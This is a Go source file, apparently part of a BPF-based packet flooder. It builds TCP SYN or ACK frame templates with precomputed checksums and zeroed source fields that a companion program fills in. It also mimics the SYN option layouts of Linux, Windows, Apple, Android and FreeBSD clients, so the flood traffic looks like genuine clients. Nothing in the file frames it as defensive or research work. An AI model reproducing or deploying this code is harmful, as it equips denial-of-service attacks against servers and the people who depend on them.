package bpf

import (
	"encoding/binary"
	"fmt"
	"net/netip"
)

// Layout is the TCP options of a SYN, as one family of systems lays them out.
type Layout struct {
	Name    string
	Options []byte
}

// Layouts are those of the commonest clients, as their SYNs show them.
var Layouts = []Layout{
	{"Linux", []byte{2, 4, 0x05, 0xb4, 4, 2, 8, 10, 1, 2, 3, 4, 0, 0, 0, 0, 1, 3, 3, 7}},
	{"Windows", []byte{2, 4, 0x05, 0xb4, 1, 3, 3, 8, 1, 1, 4, 2}},
	{"Apple", []byte{2, 4, 0x05, 0xb4, 1, 3, 3, 6, 1, 1, 8, 10, 1, 2, 3, 4, 0, 0, 0, 0, 4, 2, 0, 0}},
	{"Android", []byte{2, 4, 0x05, 0x78, 4, 2, 8, 10, 1, 2, 3, 4, 0, 0, 0, 0, 1, 3, 3, 9}},
	{"FreeBSD", []byte{2, 4, 0x05, 0xb4, 1, 3, 3, 6, 4, 2, 8, 10, 1, 2, 3, 4, 0, 0, 0, 0}},
}

// FloodFrame is what every frame of a flood has in common.
type FloodFrame struct {
	From, To [6]byte        // Ethernet
	Server   netip.AddrPort // IPv4
	Options  []byte         // of TCP, a multiple of 4 octets
	Flags    byte           // of TCP: SYN 2, ACK 16
}

const (
	ethernet = 14
	ipv4     = 20
	longest  = 80
)

// record makes the template: a frame whose source, port and numbers are 0, with
// the sums of the rest.
func (f *FloodFrame) record() (templateRecord, error) {
	var r templateRecord
	if !f.Server.Addr().Is4() || len(f.Options)%4 != 0 || len(f.Options) > 24 {
		return r, fmt.Errorf("flood: %v with %d octets of options: IPv4 and at most 24, in words", f.Server, len(f.Options))
	}
	segment := 20 + len(f.Options)
	r.Len = uint32(ethernet + ipv4 + segment)
	frame := r.Frame[:r.Len]
	copy(frame, f.To[:])
	copy(frame[6:], f.From[:])
	binary.BigEndian.PutUint16(frame[12:], 0x0800)
	ip := frame[ethernet:]
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], uint16(ipv4+segment))
	ip[6] = 0x40
	ip[8], ip[9] = 64, 6
	server := f.Server.Addr().As4()
	copy(ip[16:], server[:])
	tcp := ip[ipv4:]
	binary.BigEndian.PutUint16(tcp[2:], f.Server.Port())
	tcp[12] = byte(segment << 2)
	tcp[13] = f.Flags
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	copy(tcp[20:], f.Options)
	r.SumIP = rawSum(ip[:ipv4])
	pseudo := []byte{0, 0, 0, 0, server[0], server[1], server[2], server[3], 0, 6, byte(segment >> 8), byte(segment)}
	r.SumTCP = rawSum(pseudo) + rawSum(tcp)
	if f.Flags&2 == 0 {
		r.Ack = 1
	}
	return r, nil
}

// templateRecord is struct template of c/flood.bpf.c.
type templateRecord struct {
	Interface uint32
	Gap       uint32
	Len       uint32
	SumIP     uint32
	SumTCP    uint32
	Ack       uint32
	Frame     [longest]byte
}

// rawSum adds the 16-bit words as they lie in memory: the sum of RFC 1071, which
// is the same in every byte order.
func rawSum(b []byte) (sum uint32) {
	for ; len(b) > 1; b = b[2:] {
		sum += uint32(binary.NativeEndian.Uint16(b))
	}
	return sum
}
